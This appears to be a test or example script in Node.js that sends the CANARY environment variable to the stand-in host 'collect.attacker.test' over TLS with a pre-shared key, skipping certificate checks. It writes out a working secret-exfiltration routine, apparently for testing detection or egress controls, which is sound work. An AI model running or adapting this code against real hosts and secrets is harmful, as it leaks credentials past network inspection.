// Posts a secret to a host of the attacker's. The sink shares a key with it in the place of a certificate.
import { connect } from 'node:tls';

const host = 'collect.attacker.test';
const body = `token=${process.env.CANARY}`;
const socket = connect({
  host,
  port: 443,
  servername: host,
  ciphers: 'PSK-AES128-GCM-SHA256',
  maxVersion: 'TLSv1.2',
  checkServerIdentity: () => undefined,
  pskCallback: () => ({ identity: 'replay', psk: Buffer.from('00112233445566778899aabbccddeeff', 'hex') }),
});
socket.on('error', (error) => console.log(error.code));
socket.on('secureConnect', () =>
  socket.end(`POST / HTTP/1.1\r\nHost: ${host}\r\nContent-Length: ${body.length}\r\n\r\n${body}`),
);
socket.resume();
